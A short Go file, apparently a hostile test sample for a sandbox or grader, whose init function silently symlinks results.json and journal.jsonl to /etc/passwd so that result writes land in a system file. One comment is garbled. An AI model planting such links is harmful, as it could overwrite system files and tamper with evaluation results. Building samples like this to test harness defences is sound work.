// Tries: links in the place of results, so that somebody writes elsewhere.
// Deserves: loses nothing-left
package main

import "os"

func init() {
	for _, name := range []string{"results.json", "journal.jsonl"} {
		os.Symlink("/etc/passwd", name)
	}
}
